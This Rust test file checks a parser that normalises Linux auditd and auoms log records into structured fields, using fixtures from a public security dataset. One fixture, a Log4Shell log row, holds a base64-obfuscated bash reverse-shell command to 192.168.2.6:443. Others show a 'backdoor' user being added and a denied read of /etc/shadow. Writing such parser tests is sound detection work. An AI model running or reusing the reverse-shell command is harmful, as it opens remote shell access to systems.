use sen_core::event::{Event, TAG_PARSE_FAILURE};

use super::*;
use crate::tests::{ctx, int, list, s};
use crate::{Format, Parser, normalize_json, normalize_line};

fn line(l: &str) -> (Event, crate::Outcome) {
    let mut e = Event::new("id".into(), ctx().received, l);
    let o = normalize_line(&mut e, Format::Auto, &ctx());
    (e, o)
}

// The records of one `dd` execution from OTRF Security-Datasets (Mordor), MIT licence:
// datasets/atomic/linux/defense_evasion/host/sh_binary_padding_dd.
const SYSCALL: &str = r#"type=SYSCALL msg=audit(1604996384.965:93777): arch=c000003e syscall=59 success=yes exit=0 a0=558e25052c70 a1=558e251641a0 a2=558e25160800 a3=1b6 items=2 ppid=29002 pid=2168 auid=1000 uid=1000 gid=1000 euid=1000 suid=1000 fsuid=1000 egid=1000 sgid=1000 fsgid=1000 tty=pts0 ses=104 comm="dd" exe="/bin/dd" key=(null)"#;
const EXECVE: &str = r#"type=EXECVE msg=audit(1604996384.965:93777): argc=4 a0="dd" a1="if=/dev/zero" a2="bs=1" a3="count=1""#;
const PATH: &str = r#"type=PATH msg=audit(1604996384.965:93777): item=0 name="/bin/dd" inode=20 dev=08:01 mode=0100755 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0"#;
const PROCTITLE: &str = "type=PROCTITLE msg=audit(1604996384.965:93777): proctitle=64640069663D2F6465762F7A65726F0062733D3100636F756E743D31";

#[test]
fn syscall_record() {
    let (e, o) = line(SYSCALL);
    assert_eq!(o.parsers().collect::<Vec<_>>(), vec![Parser::Auditd], "{o}");
    assert!(!e.has_tag(TAG_PARSE_FAILURE));
    assert_eq!(e.timestamp.to_rfc3339(), "2020-11-10T08:19:44.965+00:00");
    assert_eq!(s(&e, "event.module"), Some("auditd"));
    assert_eq!(s(&e, "event.dataset"), Some("auditd.log"));
    assert_eq!(s(&e, "auditd.message_type"), Some("syscall"));
    assert_eq!(int(&e, "auditd.sequence"), Some(93777));
    // Raw values as written, unquoted; the interpreted names as the ENRICHED format has them.
    assert_eq!(s(&e, "auditd.data.syscall"), Some("59"));
    assert_eq!(s(&e, "auditd.data.SYSCALL"), Some("execve"));
    assert_eq!(s(&e, "auditd.data.arch"), Some("c000003e"));
    assert_eq!(s(&e, "auditd.data.ARCH"), Some("x86_64"));
    assert_eq!(s(&e, "auditd.data.a0"), Some("558e25052c70"), "syscall arguments stay hex");
    assert_eq!(s(&e, "auditd.data.comm"), Some("dd"));
    assert_eq!(s(&e, "auditd.data.key"), Some("(null)"));
    assert_eq!(s(&e, "auditd.data.tty"), Some("pts0"));
    assert_eq!(int(&e, "process.pid"), Some(2168));
    assert_eq!(int(&e, "process.parent.pid"), Some(29002));
    assert_eq!(s(&e, "process.executable"), Some("/bin/dd"));
    assert_eq!(s(&e, "process.name"), Some("dd"));
    assert_eq!(s(&e, "user.id"), Some("1000"));
    assert_eq!(s(&e, "user.audit.id"), Some("1000"));
    assert_eq!(s(&e, "user.effective.id"), Some("1000"));
    assert_eq!(s(&e, "user.group.id"), Some("1000"));
    assert_eq!(s(&e, "event.outcome"), Some("success"));
    // The process start is the joined event of the records (`join`), not this record.
    assert!(e.get("event.category").is_none() && e.get("event.type").is_none());
    assert!(e.get("message").is_none());
}

#[test]
fn execve_cwd_path_proctitle_records() {
    let (e, _) = line(EXECVE);
    assert_eq!(s(&e, "auditd.message_type"), Some("execve"));
    assert_eq!(list(&e, "process.args"), ["dd", "if=/dev/zero", "bs=1", "count=1"]);
    assert_eq!(s(&e, "process.command_line"), Some("dd if=/dev/zero bs=1 count=1"));
    assert_eq!(int(&e, "process.args_count"), Some(4));
    assert_eq!(s(&e, "auditd.data.a1"), Some("if=/dev/zero"));
    assert!(e.get("event.category").is_none());

    let (e, _) = line(r#"type=CWD msg=audit(1604996384.965:93777): cwd="/home/wardog""#);
    assert_eq!(s(&e, "process.working_directory"), Some("/home/wardog"));
    assert!(e.get("event.category").is_none());

    let (e, _) = line(PATH);
    assert_eq!(s(&e, "file.path"), Some("/bin/dd"));
    assert_eq!(s(&e, "file.inode"), Some("20"));
    assert_eq!(s(&e, "auditd.data.nametype"), Some("NORMAL"));
    assert!(e.get("event.category").is_none(), "a path looked up is no file event");

    let (e, _) = line(PROCTITLE);
    assert_eq!(s(&e, "process.title"), Some("dd if=/dev/zero bs=1 count=1"));
    assert_eq!(s(&e, "auditd.data.proctitle"), Some("dd if=/dev/zero bs=1 count=1"));
}

#[test]
fn hex_encoded_and_split_arguments() {
    // `a1` holds a space, so the kernel hex-encodes it; `a2` is longer than one line.
    let (e, _) = line(
        "type=EXECVE msg=audit(1.5:7): argc=3 a0=\"sh\" a1=2D632069640A a2_len=6 a2[0]=616263 a2[1]=646566",
    );
    assert_eq!(list(&e, "process.args"), ["sh", "-c id\n", "abcdef"]);
    assert_eq!(s(&e, "auditd.data.a2"), Some("abcdef"));
    assert_eq!(s(&e, "auditd.data.a2_len"), Some("6"));
    assert_eq!(e.timestamp.to_rfc3339(), "1970-01-01T00:00:01.500+00:00");
    // A name with a space: hex; `(null)` and plain values are left alone.
    let (e, _) =
        line("type=PATH msg=audit(1.5:7): item=0 name=2F746D702F6120622E7368 nametype=CREATE");
    assert_eq!(s(&e, "file.path"), Some("/tmp/a b.sh"));
    assert_eq!(list(&e, "event.category"), ["file"]);
    assert_eq!(list(&e, "event.type"), ["creation"]);
    // Lower-case hex is not what the kernel writes: it is a plain value.
    let (e, _) = line("type=PROCTITLE msg=audit(1.5:7): proctitle=bash");
    assert_eq!(s(&e, "process.title"), Some("bash"));
}

#[test]
fn user_space_records_nested_msg() {
    let (e, _) = line(
        "type=USER_LOGIN msg=audit(1700000000.123:4242): pid=812 uid=0 auid=4294967295 ses=4294967295 subj=unconfined msg='op=login acct=28696E76616C6964207573657229 exe=\"/usr/sbin/sshd\" hostname=? addr=203.0.113.9 terminal=sshd res=failed'",
    );
    assert_eq!(s(&e, "auditd.message_type"), Some("user_login"));
    assert_eq!(s(&e, "auditd.data.op"), Some("login"));
    assert_eq!(s(&e, "auditd.data.acct"), Some("(invalid user)"));
    assert_eq!(s(&e, "auditd.data.res"), Some("failed"));
    assert_eq!(s(&e, "auditd.data.subj"), Some("unconfined"));
    assert_eq!(s(&e, "user.name"), Some("(invalid user)"));
    assert!(e.get("user.audit.id").is_none(), "4294967295 is unset");
    assert_eq!(e.get("source.ip").map(|v| v.to_text()).as_deref(), Some("203.0.113.9"));
    assert!(e.get("source.domain").is_none());
    assert_eq!(s(&e, "process.executable"), Some("/usr/sbin/sshd"));
    assert_eq!(s(&e, "event.outcome"), Some("failure"));
    assert_eq!(list(&e, "event.category"), ["authentication", "session"]);
    assert_eq!(list(&e, "event.type"), ["start"]);

    let (e, _) = line(
        "type=ADD_USER msg=audit(1700000000.5:9): pid=1 uid=0 auid=1000 ses=3 msg='op=adding user id=1001 exe=\"/usr/sbin/useradd\" acct=\"backdoor\" hostname=host1 addr=? terminal=pts/0 res=success'",
    );
    assert_eq!(s(&e, "user.target.name"), Some("backdoor"));
    // Unquoted words that are no `key=` belong to the value before them.
    assert_eq!(s(&e, "auditd.data.op"), Some("adding user"));
}

#[test]
fn enriched_format_and_node_prefix() {
    for sep in ["\u{1d}", "#035"] {
        let l = format!(
            "node=web01 type=SYSCALL msg=audit(1700000000.000:1): arch=c000003e syscall=59 success=yes exit=0 ppid=1 pid=2 auid=1000 uid=0 gid=0 euid=0 comm=\"id\" exe=\"/usr/bin/id\" key=\"susp_activity\"{sep}ARCH=x86_64 SYSCALL=execve AUID=\"alice\" UID=\"root\" GID=\"root\" EUID=\"root\""
        );
        let (e, _) = line(&l);
        assert_eq!(s(&e, "host.name"), Some("web01"));
        assert_eq!(s(&e, "auditd.data.key"), Some("susp_activity"));
        assert_eq!(s(&e, "auditd.data.SYSCALL"), Some("execve"));
        assert_eq!(s(&e, "user.name"), Some("root"));
        assert_eq!(s(&e, "user.audit.name"), Some("alice"));
        assert_eq!(s(&e, "user.audit.id"), Some("1000"));
        assert_eq!(s(&e, "user.group.name"), Some("root"));
        assert_eq!(list(&e, "related.user"), ["root", "alice"]);
    }
}

#[test]
fn records_inside_syslog() {
    // audisp-syslog: the log line as the message.
    let (e, o) = line(&format!("<14>Nov 10 08:19:44 web01 audispd: node=web01 {EXECVE}"));
    assert_eq!(o.to_string(), "rfc3164+auditd");
    assert_eq!(s(&e, "process.command_line"), Some("dd if=/dev/zero bs=1 count=1"));
    assert_eq!(e.timestamp.to_rfc3339(), "2020-11-10T08:19:44.965+00:00", "audit time wins");
    assert!(s(&e, "message").unwrap().starts_with("node=web01 type=EXECVE"));
    // The kernel: numeric type, `audit:` prefix, optional uptime.
    let (e, o) = line(
        "Nov 26 10:00:00 web01 kernel: [ 12.345678] audit: type=1400 audit(1764151200.100:55): apparmor=\"DENIED\" operation=\"open\" profile=\"/usr/sbin/cupsd\" name=\"/etc/shadow\" pid=991 comm=\"cupsd\"",
    );
    assert_eq!(o.to_string(), "rfc3164+auditd");
    assert_eq!(s(&e, "auditd.message_type"), Some("avc"));
    assert_eq!(s(&e, "auditd.data.apparmor"), Some("DENIED"));
    assert_eq!(s(&e, "auditd.data.name"), Some("/etc/shadow"));
    // journald: `audit[pid]: TYPE …` without a time stamp.
    let (e, o) = line(
        "Nov 26 10:00:00 web01 audit[1]: SERVICE_STOP pid=1 uid=0 auid=4294967295 ses=4294967295 msg='unit=firewalld comm=\"systemd\" exe=\"/usr/lib/systemd/systemd\" hostname=? addr=? terminal=? res=success'",
    );
    assert_eq!(o.to_string(), "rfc3164+auditd");
    assert_eq!(s(&e, "auditd.message_type"), Some("service_stop"));
    assert_eq!(s(&e, "auditd.data.unit"), Some("firewalld"));
    assert!(e.get("auditd.sequence").is_none());
    assert_eq!(s(&e, "event.outcome"), Some("success"));
    // Other kernel messages are no audit records.
    let (_, o) = line("Nov 26 10:00:00 web01 kernel: [ 1.0] usb 1-1: new device");
    assert_eq!(o.to_string(), "rfc3164");
}

// One row of OTRF Security-Datasets' Log4Shell `syslog_auoms_auditd` file (MIT licence),
// shortened: the Sentinel Syslog table holding an auoms record.
const AUOMS: &str = r#"{"TenantId":"redacted","SourceSystem":"Linux","TimeGenerated":"2022-05-11T18:10:21.997Z","Computer":"UBUNTU5","EventTime":"2022-05-11T18:10:21Z","Facility":"user","HostName":"UBUNTU5","SeverityLevel":"info","SyslogMessage":"type=AUOMS_EXECVE audit(1652292621.990:84143): SchemaVersion=\"1\" auoms_version=2.5.2.0 node=UBUNTU5 arch=x86_64 syscall=execve syscall_r=59 success=yes exit=0 a0=7fcd3bdfb8e0 ppid=1340 pid=17790 audit_user=unset auid=4294967295 user=tomcat uid=1001 group=tomcat gid=1001 effective_user=tomcat euid=1001 tty=(none) ses=\"-1\" comm=\"bash\" exe=\"/bin/bash\" key=auoms,delete key_r=61756F6D730164656C657465 cwd=\"/\" name=\"/bin/bash\" nametype=NORMAL path_name=[\"/bin/bash\",\"/lib64/ld-linux-x86-64.so.2\"] path_mode=[\"0100755\",\"0100755\"] argc=3 cmdline=\"bash -c \"{echo,YmFzaCAtaSA+JiAvZGV2L3RjcC8xOTIuMTY4LjIuNi80NDMgMD4mMQo=}|{base64,-d}|{bash,-i}\"\" redactors= containerid=","HostIP":"192.168.2.5","ProcessName":"auoms","MG":"00000000-0000-0000-0000-000000000002","Type":"Syslog","EventType":"AUOMS_EXECVE"}"#;

#[test]
fn auoms_in_a_sentinel_syslog_row() {
    let obj: serde_json::Map<String, serde_json::Value> = serde_json::from_str(AUOMS).unwrap();
    let mut e = Event::new("id".into(), ctx().received, AUOMS);
    let o = normalize_json(&mut e, obj, &ctx());
    assert_eq!(o.to_string(), "json+auditd");
    assert!(!e.has_tag(TAG_PARSE_FAILURE));
    assert_eq!(e.timestamp.to_rfc3339(), "2022-05-11T18:10:21.990+00:00");
    assert_eq!(s(&e, "host.name"), Some("UBUNTU5"));
    assert_eq!(e.get("host.ip").map(|v| v.to_text()).as_deref(), Some("192.168.2.5"));
    assert_eq!(s(&e, "log.syslog.appname"), Some("auoms"));
    assert_eq!(s(&e, "auditd.message_type"), Some("auoms_execve"));
    assert_eq!(int(&e, "auditd.sequence"), Some(84143));
    assert_eq!(s(&e, "auditd.data.SYSCALL"), Some("execve"));
    assert_eq!(s(&e, "auditd.data.key"), Some("auoms,delete"));
    assert_eq!(s(&e, "auditd.data.redactors"), Some(""));
    assert_eq!(list(&e, "auditd.data.path_name"), ["/bin/bash", "/lib64/ld-linux-x86-64.so.2"]);
    assert_eq!(
        s(&e, "process.command_line"),
        Some(
            "bash -c \"{echo,YmFzaCAtaSA+JiAvZGV2L3RjcC8xOTIuMTY4LjIuNi80NDMgMD4mMQo=}|{base64,-d}|{bash,-i}\""
        )
    );
    assert_eq!(s(&e, "process.executable"), Some("/bin/bash"));
    assert_eq!(s(&e, "process.name"), Some("bash"));
    assert_eq!(s(&e, "process.working_directory"), Some("/"));
    assert_eq!(int(&e, "process.pid"), Some(17790));
    assert_eq!(s(&e, "user.name"), Some("tomcat"));
    assert_eq!(s(&e, "user.id"), Some("1001"));
    assert!(e.get("user.audit.id").is_none() && e.get("user.audit.name").is_none());
    assert_eq!(list(&e, "event.category"), ["process"]);
    assert!(e.get("TenantId").is_none() && e.get("MG").is_none());
}

#[test]
fn auoms_unquoted_proctitle_with_spaces() {
    let r = parse("type=AUOMS_EXECVE audit(1652292621.986:84138): success=no exit=-2 proctitle=/usr/bin/java -Djava.util.logging.config.file=/opt/x.properties -Djava.util.l redactors= containerid=").unwrap();
    assert_eq!(
        r.get("proctitle"),
        Some("/usr/bin/java -Djava.util.logging.config.file=/opt/x.properties -Djava.util.l")
    );
    assert_eq!(r.get("redactors"), Some(""));
    assert_eq!(r.get("containerid"), Some(""));
}

#[test]
fn bad_records_are_reported_not_dropped() {
    for (l, why) in [
        ("type=SYSCALL msg=audit(abc:1): pid=1", "bad `audit(` time stamp"),
        ("type=SYSCALL msg=audit(1.2:3 pid=1", "unterminated"),
        ("type=SYSCALL pid=1", "expected `msg=audit(`"),
        ("type= msg=audit(1.2:3): pid=1", "empty record type"),
    ] {
        let (e, o) = line(l);
        assert!(o.is_failure(), "{l}");
        assert!(e.has_tag(TAG_PARSE_FAILURE));
        let msg = s(&e, "error.message").unwrap();
        assert!(msg.starts_with("auditd: ") && msg.contains(why), "{l}: {msg}");
        assert_eq!(s(&e, "message"), Some(l));
    }
    // Unterminated quotes and nested messages keep what there is.
    let r = parse("type=USER_CMD msg=audit(1.2:3): pid=1 msg='cwd=\"/root cmd=6C73").unwrap();
    assert_eq!(r.get("pid"), Some("1"));
    assert_eq!(r.get("cwd"), Some("/root cmd=6C73"));
    let r = parse("type=UNKNOWN[1999] msg=audit(1.2:3): x='free").unwrap();
    assert_eq!(r.get("x"), Some("free"));
    assert_eq!(r.record_type, "UNKNOWN[1999]");
    assert_eq!(parse("type=1300 audit(1.2:3): a=b").unwrap().record_type, "SYSCALL");
    assert_eq!(parse("type=1999 audit(1.2:3): a=b").unwrap().record_type, "UNKNOWN[1999]");
}

#[test]
fn free_text_msg_and_selinux_words() {
    let r = parse("type=USER_AVC msg=audit(1.2:3): pid=1 uid=0 msg='avc:  received policyload notice (seqno=2)  exe=\"/usr/lib/systemd/systemd\" sauid=0 hostname=? addr=? terminal=?'").unwrap();
    assert_eq!(r.get("exe"), Some("/usr/lib/systemd/systemd"));
    assert_eq!(r.get("terminal"), Some("?"));
    let r = parse("type=DAEMON_START msg=audit(1.2:3): msg='some free text'").unwrap();
    assert_eq!(r.get("msg"), Some("some free text"));
    let r = parse("type=AVC msg=audit(1.2:3): avc:  denied  { read } for  pid=1 comm=\"cat\" tclass=file permissive=0").unwrap();
    assert_eq!(r.get("pid"), Some("1"));
    assert_eq!(r.get("permissive"), Some("0"));
    assert!(r.get("for").is_none());
}

#[test]
fn failed_execve_is_no_process_start() {
    let (e, _) = line(
        "type=SYSCALL msg=audit(1.2:3): arch=c000003e syscall=59 success=no exit=-2 pid=5 comm=\"x\" exe=\"/bin/x\"",
    );
    assert_eq!(s(&e, "event.outcome"), Some("failure"));
    assert!(e.get("event.category").is_none());
    // Another architecture: the number stays, no name is guessed.
    let (e, _) = line("type=SYSCALL msg=audit(1.2:3): arch=c00000b7 syscall=221 success=yes pid=5");
    assert_eq!(s(&e, "auditd.data.ARCH"), Some("aarch64"));
    assert!(e.get("auditd.data.SYSCALL").is_none());
}

#[test]
fn syscall_table() {
    assert_eq!(tables::syscall_x86_64(0), Some("read"));
    assert_eq!(tables::syscall_x86_64(59), Some("execve"));
    assert_eq!(tables::syscall_x86_64(322), Some("execveat"));
    assert_eq!(tables::syscall_x86_64(319), Some("memfd_create"));
    assert_eq!(tables::syscall_x86_64(400), None);
    assert!(tables::SYSCALLS_X86_64.windows(2).all(|w| w[0].0 < w[1].0));
    assert!(tables::RECORD_TYPES.windows(2).all(|w| w[0].0 < w[1].0));
}

#[test]
fn user_space_record_types() {
    for t in [
        "user_login",
        "cred_acq",
        "service_start",
        "daemon_start",
        "unknown[1199]",
        "unknown[2105]",
    ] {
        assert!(tables::user_space(t), "{t}");
    }
    for t in ["syscall", "execve", "path", "login", "avc", "eoe", "proctitle", "unknown[1999]", ""]
    {
        assert!(!tables::user_space(t), "{t}");
    }
}
